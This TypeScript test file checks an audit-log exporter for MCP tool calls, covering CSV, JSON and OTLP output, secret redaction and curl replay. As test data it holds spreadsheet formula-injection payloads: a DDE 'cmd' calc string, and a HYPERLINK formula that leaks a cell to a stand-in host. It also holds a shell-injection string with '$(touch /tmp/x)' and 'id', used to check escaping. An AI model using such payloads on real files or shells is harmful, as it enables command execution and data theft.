import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { csvRow } from '../../../src/audit/export/csv.ts';
import { exportCalls } from '../../../src/audit/export/exportCalls.ts';
import {
  type OtlpAttribute,
  type SpanRecord,
  otlpRequest,
  spanOf,
} from '../../../src/audit/export/otlpSpans.ts';
import { asCurl, asJsonRpc } from '../../../src/audit/export/replay.ts';
import type { JsonObject } from '../../../src/base/json.ts';
import {
  type AuditKit,
  auditDigest,
  auditKit,
  intent,
  makeCalls,
  result,
  subject,
} from '../../helpers/auditKit.ts';
import { describe, it } from '../../helpers/nodeTest.ts';

async function exported(kit: AuditKit, format: 'json' | 'csv' | 'otlp'): Promise<string> {
  let text = '';
  const count = await exportCalls(
    kit.folder,
    format,
    (piece) => {
      text += piece;
      return Promise.resolve();
    },
    { version: '1.2.3' },
  );
  assert.ok(count >= 0);
  return text;
}

/** Reads CSV as RFC 4180 says, to hold our writer against something else than itself. */
function readCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at++) {
    const character = text.charAt(at);
    if (quoted) {
      if (character !== '"') cell += character;
      else if (text.charAt(at + 1) === '"') {
        cell += '"';
        at++;
      } else quoted = false;
    } else if (character === '"' && cell === '') quoted = true;
    else if (character === separator || character === '\n') {
      rows.at(-1)?.push(cell);
      cell = '';
      if (character === '\n') rows.push([]);
    } else if (character !== '\r') cell += character;
  }
  return rows.slice(0, -1);
}

describe('CSV', () => {
  const formulas = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\uFEFF=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '|calc',
    '%0A=1',
    '=HYPERLINK("http://x.example?"&A1,"click")',
    '"=1+1',
    'x;=1+1',
    'x\t=1+1',
    'x\n=1+1',
    'x;"=1+1"',
    'x; @SUM(A1)',
    '{"a":"b;=cmd|\' /C calc\'!A0"}',
  ];
  it('is never a formula for a spreadsheet, whichever separator it takes', () => {
    for (const text of formulas) {
      const row = csvRow([text, 1, text]);
      for (const separator of [',', ';', '\t']) {
        for (const cell of readCsv(row, separator).flat()) {
          assert.doesNotMatch(
            cell,
            /^[\s\uFEFF]*[=+\-@＝＋－＠]/u,
            `${JSON.stringify(text)} with ${separator}`,
          );
        }
      }
    }
  });

  it('keeps ordinary text, numbers and line breaks', () => {
    const cells = ['a "quoted", text', 'two\r\nlines', 'x=1', 'a-b', '', '{"a":-1}'];
    assert.deepEqual(readCsv(csvRow([...cells, -5, 1.5, true, undefined])), [
      [...cells, '-5', '1.5', 'true', ''],
    ]);
  });
});

describe('an export', () => {
  it('as JSON is one array with everything that is stored', async () => {
    const kit = auditKit();
    const log = kit.open();
    await makeCalls(log, 3);
    await log.intent(intent(subject('s'), { password: 'hunter2' }), { personDecided: false });
    const text = await exported(kit, 'json');
    assert.equal(text.includes('hunter2'), false);
    const calls = JSON.parse(text) as JsonObject[];
    assert.deepEqual(
      calls.map(({ callId, end, arguments: args }) => [callId, end, args]),
      [
        ['s', 'unanswered', { password: `[secret:password #${auditDigest.short('hunter2')}]` }],
        ['c3', 'ok', { message: 'hello 3' }],
        ['c2', 'ok', { message: 'hello 2' }],
        ['c1', 'ok', { message: 'hello 1' }],
      ],
    );
    const [, third] = calls;
    const records = third?.['records'] as JsonObject[];
    assert.deepEqual(
      records.map((record) => record['kind']),
      ['intent', 'result'],
    );
    await kit.end();
  });

  it('as CSV has one line per call', async () => {
    const kit = auditKit();
    const log = kit.open();
    const of = subject('c1', '=tool');
    await log.intent(intent(of, { a: 'x\ny' }), { personDecided: false });
    log.record(result(of, '=1+1', true));
    await log.sync();
    const [columns = [], row = [], ...more] = readCsv(await exported(kit, 'csv'));
    assert.deepEqual(more, []);
    const cells = Object.fromEntries(columns.map((column, index) => [column, row[index]]));
    const { session: _session, ...rest } = cells;
    assert.deepEqual(rest, {
      time: '2023-11-14T22:13:20.000Z',
      call: 'c1',
      caller: 'chat',
      callerLabel: 'model',
      server: 'everything',
      tool: "'=tool",
      end: 'toolError',
      decidedBy: 'rule',
      reason: '',
      edited: 'false',
      withheld: 'false',
      durationMs: '5',
      resultBytes: String(Buffer.byteLength(JSON.stringify(result(of, '=1+1', true).result))),
      arguments: '{"a":"x\\ny"}',
      result: '{"content":[{"type":"text","text":"=1+1"}],"isError":true}',
    });
    await kit.end();
  });

  it('as OTLP has one request per line', async () => {
    const kit = auditKit();
    await makeCalls(kit.open(), 2);
    const lines = (await exported(kit, 'otlp')).trimEnd().split('\n');
    const names = lines.map(
      (line) => JSON.stringify(JSON.parse(line)).match(/"name":"tools\/call echo"/g)?.length,
    );
    assert.deepEqual(names, [1, 1]);
    await kit.end();
  });

  it('of nothing is empty, but whole', async () => {
    const kit = auditKit();
    kit.open().record({ kind: 'sessionOpened', version: '1' });
    await new Promise((resolve) => setImmediate(resolve));
    assert.deepEqual(JSON.parse(await exported(kit, 'json')), []);
    assert.equal(readCsv(await exported(kit, 'csv')).length, 1);
    assert.equal(await exported(kit, 'otlp'), '');
    await kit.end();
  });
});

const options = { sessionId: '0123456789ab', content: false } as const;
const parent = '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01';
const record = (event: object, ms: number): SpanRecord => {
  const fields = event as JsonObject & { readonly kind: string };
  return { kind: fields.kind, time: new Date(ms).toISOString(), fields };
};
const sent = record(
  { ...intent(subject('c1')), traceparent: parent, protocolVersion: '2026-07-28', transport: 'http' },
  1_000,
);
const flat = (attributes: readonly OtlpAttribute[]): Record<string, unknown> =>
  Object.fromEntries(attributes.map(({ key, value }) => [key, Object.values(value)[0]]));

describe('a span', () => {
  it('is the MCP client span of the conventions, under the ids that the server was sent', () => {
    const span = spanOf(
      [sent, record({ ...result(subject('c1')), durationMs: 12.5, bytes: 57, requestId: '7' }, 1_020)],
      {
        ...options,
        address: { host: 'mcp.example', port: 443 },
      },
    );
    const { attributes = [], ...rest } = span ?? {};
    assert.deepEqual(rest, {
      traceId: '4bf92f3577b34da6a3ce929d0e0e4736',
      spanId: '00f067aa0ba902b7',
      flags: 1,
      name: 'tools/call echo',
      kind: 3,
      startTimeUnixNano: '1000000000',
      endTimeUnixNano: '1012500000',
      events: [],
      status: { code: 0 },
    });
    assert.deepEqual(flat(attributes), {
      'mcp.method.name': 'tools/call',
      'gen_ai.operation.name': 'execute_tool',
      'gen_ai.tool.name': 'echo',
      'gen_ai.tool.call.id': 'c1',
      'mcp.protocol.version': '2026-07-28',
      'network.transport': 'tcp',
      'server.address': 'mcp.example',
      'server.port': '443',
      'jsonrpc.request.id': '7',
      'countersign.session.id': '0123456789ab',
      'countersign.server.id': 'everything',
      'countersign.caller.kind': 'chat',
      'countersign.decision.by': 'rule',
      'countersign.arguments.edited': false,
      'countersign.result.bytes': '57',
      'countersign.result.withheld': false,
    });
  });

  const of = subject('c1');
  const ends: readonly (readonly [end: object, type: unknown, code: unknown, status: object])[] = [
    [result(of), undefined, undefined, { code: 0 }],
    [result(of, 'x', true), 'tool_error', undefined, { code: 2 }],
    [
      { kind: 'error', ...of, source: 'server', code: '-32602', message: 'bad' },
      '-32602',
      '-32602',
      { code: 2, message: 'bad' },
    ],
    [
      { kind: 'error', ...of, source: 'host', code: 'timeout', message: 'late' },
      'timeout',
      undefined,
      { code: 2, message: 'late' },
    ],
    [{ kind: 'cancelled', ...of, by: 'caller' }, 'cancelled', undefined, { code: 2 }],
  ];
  it('says what kind of error it was', () => {
    for (const [end, type, code, status] of ends) {
      const span = spanOf([sent, record(end, 2_000)], options) ?? assert.fail('no span');
      const attributes = flat(span.attributes);
      assert.deepEqual(
        [attributes['error.type'], attributes['rpc.response.status_code'], span.status],
        [type, code, status],
      );
    }
  });

  it('of a call that was denied is no exchange with a server', () => {
    const asked = record(
      { kind: 'promptShown', ...of, promptId: 'p', purpose: 'approval', digest: 'd' },
      1_000,
    );
    const decision = { outcome: 'deny', by: { kind: 'person', promptId: 'p' } };
    const span =
      spanOf([asked, record({ kind: 'decision', ...of, decision }, 5_000)], options) ??
      assert.fail('no span');
    assert.deepEqual(
      [
        span.name,
        span.kind,
        span.endTimeUnixNano,
        span.events.map((event) => event.name),
        flat(span.attributes)['error.type'],
      ],
      ['execute_tool echo', 1, '5000000000', ['countersign.promptShown', 'countersign.decision'], 'denied'],
    );
    assert.equal(flat(span.attributes)['mcp.method.name'], undefined);
  });

  it('has arguments and result only where they are asked for', () => {
    const records = [sent, record(result(of), 2_000)];
    const without = flat(spanOf(records, options)?.attributes ?? []);
    assert.equal(without['gen_ai.tool.call.arguments'], undefined);
    const attributes = flat(spanOf(records, { ...options, content: true })?.attributes ?? []);
    assert.equal(attributes['gen_ai.tool.call.arguments'], '{"message":"hello"}');
    assert.equal(
      attributes['gen_ai.tool.call.result'],
      '{"content":[{"type":"text","text":"hello"}],"isError":false}',
    );
  });

  it('has ids of its own where no valid ones were sent, the same each time', () => {
    for (const traceparent of [undefined, '', 'junk', parent.replace('4bf92f', '4BF92F')]) {
      const bare = record({ ...intent(of), traceparent }, 1_000);
      const [one, other] = [1, 2].map(() => spanOf([bare, record(result(of), 2_000)], options));
      assert.match(one?.traceId ?? '', /^[0-9a-f]{32}$/);
      assert.match(one?.spanId ?? '', /^[0-9a-f]{16}$/);
      assert.deepEqual(one, other);
    }
  });

  it('exists only once the call has ended, and names who sends it', () => {
    assert.equal(spanOf([sent], options), undefined);
    assert.equal(spanOf([], options), undefined);
    assert.deepEqual(JSON.parse(JSON.stringify(otlpRequest([], { version: '1.2.3', sessionId: 'ab' }))), {
      resourceSpans: [
        {
          resource: {
            attributes: [
              { key: 'service.name', value: { stringValue: 'countersign' } },
              { key: 'service.version', value: { stringValue: '1.2.3' } },
              { key: 'service.instance.id', value: { stringValue: 'ab' } },
            ],
          },
          scopeSpans: [{ scope: { name: 'countersign.audit', version: '1.2.3' }, spans: [] }],
        },
      ],
    });
  });
});

describe('a call to be made again by hand', () => {
  const hostile = `it's; $(touch /tmp/x) \`id\` "quoted" \\ \n ! häß`;
  const call = {
    tool: hostile,
    arguments: { text: hostile },
    era: 'modern',
    protocolVersion: '2026-07-28',
  } as const;

  it('is a JSON-RPC request', () => {
    const legacy = { tool: 'echo', arguments: { a: 1 }, era: 'legacy' } as const;
    assert.deepEqual(JSON.parse(asJsonRpc(legacy)), {
      jsonrpc: '2.0',
      id: 1,
      method: 'tools/call',
      params: { name: 'echo', arguments: { a: 1 } },
    });
    const modern = JSON.parse(asJsonRpc(call)) as { params: { _meta: JsonObject } };
    assert.equal(modern.params._meta['io.modelcontextprotocol/protocolVersion'], '2026-07-28');
  });

  it('is a curl command that a shell takes exactly as it is meant', () => {
    const url = "https://x.example/mcp?a='b'";
    const shown = execFileSync('sh', ['-c', `curl() { printf '%s\\0' "$@"; }\n${asCurl(call, url)}`], {
      encoding: 'utf8',
    });
    const words = shown.split('\0').slice(0, -1);
    assert.deepEqual(words.slice(0, 3), ['--request', 'POST', url]);
    assert.deepEqual(JSON.parse(words.at(-1) ?? ''), JSON.parse(asJsonRpc(call)));
    const headers = words.filter((_, index) => words[index - 1] === '--header');
    assert.deepEqual(headers, [
      'Content-Type: application/json',
      'Accept: application/json, text/event-stream',
      'MCP-Protocol-Version: 2026-07-28',
      'Mcp-Method: tools/call',
      `Mcp-Name: =?base64?${Buffer.from(hostile).toString('base64')}?=`,
    ]);
  });
});
